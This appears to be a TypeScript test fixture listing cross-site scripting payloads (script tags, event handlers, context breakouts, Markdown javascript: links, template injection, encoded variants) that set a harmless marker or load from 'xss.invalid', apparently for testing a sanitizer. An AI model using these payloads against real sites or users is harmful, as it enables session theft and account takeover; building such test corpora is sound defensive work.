/** A host that nobody has: a request to it is one that the payload made. */
export const OTHER_HOST = 'xss.invalid';

/** Texts that run, load or lead somewhere where they are taken for markup, for Markdown, or for a template. */
export interface Payload {
  readonly text: string;
  /** It needs nobody to press anything on a page that takes it for HTML. */
  readonly runsAlone: boolean;
}

const MARK = 'window.__xss=1';

const ALONE: readonly string[] = [
  `<script>${MARK}</script>`,
  `<img src=x onerror=${MARK}>`,
  `<svg onload=${MARK}>`,
  `"><script>${MARK}</script>`,
  `'><svg/onload=${MARK}>`,
  `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `</style><script>${MARK}</script>`,
  `--><script>${MARK}</script>`,
  `<script>alert(1)</script>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<details open ontoggle=${MARK}>x</details>`,
  `<video><source onerror=${MARK}></video>`,
  `<audio src=x onerror=${MARK}></audio>`,
  `<input autofocus onfocus=${MARK}>`,
  `<body onload=${MARK}>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${MARK}&gt;" src=x onerror=${MARK}>`,
  `<img src="http://${OTHER_HOST}/pixel.png">`,
  `<link rel=stylesheet href=http://${OTHER_HOST}/x.css>`,
  `<style>@import "http://${OTHER_HOST}/y.css";</style>`,
  `<embed src=http://${OTHER_HOST}/z>`,
];

const OTHERS: readonly string[] = [
  `" autofocus onfocus=${MARK} x="`,
  `' autofocus onfocus='${MARK}`,
  `[x](javascript:${MARK})`,
  `[x](JaVaScRiPt:${MARK})`,
  `![x](http://${OTHER_HOST}/pixel.png)`,
  `![x](x "onerror=${MARK}")`,
  `<javascript:${MARK}>`,
  `[x](data:text/html,<script>parent.${MARK}</script>)`,
  `<a href="javascript:${MARK}">x</a>`,
  `<form action=http://${OTHER_HOST}><button>x</button></form>`,
  `{{constructor.constructor('${MARK}')()}}`,
  `\${${MARK}}`,
  `%3Cscript%3E${MARK}%3C/script%3E`,
  `&lt;img src=x onerror=${MARK}&gt;`,
  `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
];

export const PAYLOADS: readonly Payload[] = [
  ...ALONE.map((text) => ({ text, runsAlone: true })),
  ...OTHERS.map((text) => ({ text, runsAlone: false })),
];
